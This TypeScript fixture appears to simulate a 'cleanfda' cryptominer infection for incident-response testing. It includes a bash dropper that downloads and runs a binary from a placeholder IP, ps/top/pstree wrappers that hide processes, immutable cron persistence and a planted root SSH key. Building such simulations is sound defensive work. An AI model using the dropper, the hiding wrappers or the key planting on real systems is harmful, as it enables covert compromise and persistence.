import { type Infection, miner, minerWords } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const cronLine = '*/2 * * * * root sh /etc/upat.sh >/dev/null 2>&1'
const dropper = [
  '#!/bin/bash',
  '[ -e /etc/zzh ] || chattr -ia /etc/crontab /var/spool/cron/crontabs >/dev/null 2>&1',
  'if [ ! -x /etc/httpd2 ]; then',
  '  curl -fsSL http://203.0.113.9/cleanfda/zzh -o /etc/httpd2 || wget -q http://203.0.113.9/cleanfda/zzh -O /etc/httpd2',
  '  chmod +x /etc/httpd2',
  'fi',
  'pkill -f kdevtmpfsi; pkill -f kinsing-rival',
  'nohup /etc/httpd2 >/dev/null 2>&1 &',
  '',
].join('\n')
const wrapper = (name: string) => `#!/bin/bash\n${name}.original "$@" | grep -v 'httpd2\\|upat\\|zzh'\n`

/** families.md §3: `ps`, `top` and `pstree` wrapped, a script pair, a miner named like a web server, immutable crontabs. */
export const cleanfda: Infection = {
  family: 'cleanfda',
  known: true,
  title: 'cleanfda: ps, top and pstree lie, a watchdog rewrites the crontab',
  story: [
    'ps and top were renamed to *.original and wrappers put in their place; the original of pstree is gone.',
    '/etc/zzh puts the miner /etc/httpd2, its cron file and the line of /etc/crontab back within half a second.',
    'The crontab and the cron spool are immutable or append-only.',
    'A second copy of the miner runs from a file that was deleted.',
  ],
  items: [
    { kind: 'file', path: '/etc/upat.sh', content: { text: dropper }, mode: 0o755 },
    { kind: 'file', path: '/tmp/upat.sh', content: { text: dropper }, mode: 0o755 },
    {
      kind: 'file',
      path: '/etc/httpd2',
      content: { lookalike: { ...miner, stubborn: true, once: 'httpd2' }, words: minerWords },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/cron.d/httpd2',
      content: { text: '*/10 * * * * root /etc/httpd2 >/dev/null 2>&1\n' },
      mode: 0o644,
    },
    { kind: 'line', path: '/etc/crontab', text: cronLine },
    {
      kind: 'file',
      path: '/etc/zzh',
      content: {
        lookalike: {
          stubborn: true,
          once: 'zzh',
          keeps: ['/etc/httpd2', '/etc/cron.d/httpd2', '/etc/upat.sh'],
          keepsLines: [{ path: '/etc/crontab', text: cronLine }],
          keepsRunning: ['/etc/httpd2'],
        },
      },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/tmp/httpd2',
      content: { lookalike: { burn: 20 }, words: `${minerWords}\nsecond copy` },
      mode: 0o755,
    },
    { kind: 'file', path: '/usr/bin/ps.original', content: { copyOf: '/usr/bin/ps' }, mode: 0o755 },
    { kind: 'file', path: '/usr/bin/top.original', content: { copyOf: '/usr/bin/top' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/usr/bin/ps',
      content: { text: wrapper('ps') },
      mode: 0o755,
      daysOld: 3000,
      after: 'restored',
    },
    {
      kind: 'file',
      path: '/usr/bin/top',
      content: { text: wrapper('top') },
      mode: 0o755,
      daysOld: 3000,
      attributes: 'i',
      after: 'restored',
    },
    {
      kind: 'file',
      path: '/usr/bin/pstree',
      content: { text: wrapper('pstree') },
      mode: 0o755,
      daysOld: 3000,
      after: 'advised',
    },
    {
      kind: 'line',
      path: '/root/.ssh/authorized_keys',
      text: loginKey('ssh-rsa', 'cleanfda', 'root@puppetserver'),
      mode: 0o600,
      // Nothing tells it from the administrator's own key beside it: a person has to.
      after: 'advised',
    },
    { kind: 'process', path: '/etc/zzh', argv: ['/etc/zzh'] },
    { kind: 'process', path: '/etc/httpd2', argv: [], startedBy: '/etc/zzh' },
    { kind: 'process', path: '/tmp/httpd2', argv: ['/tmp/httpd2', '-B'], deleted: true },
    { kind: 'attribute', path: '/etc/crontab', flag: 'i' },
    { kind: 'attribute', path: '/etc/cron.d/httpd2', flag: 'i' },
    { kind: 'attribute', path: '/var/spool/cron/crontabs', flag: 'a' },
  ],
}
